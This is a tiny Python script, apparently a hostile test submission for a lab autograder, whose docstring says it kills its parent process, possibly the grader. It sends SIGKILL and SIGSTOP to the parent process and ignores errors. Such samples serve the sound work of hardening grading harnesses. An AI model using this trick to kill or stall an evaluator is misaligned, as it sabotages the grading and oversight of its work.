"""Kills its parent, which may be the grader."""
# lab: 01, todo: 1

import os
import signal

for pid in {os.getppid()} - {0, 1}:
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
        except OSError:
            pass
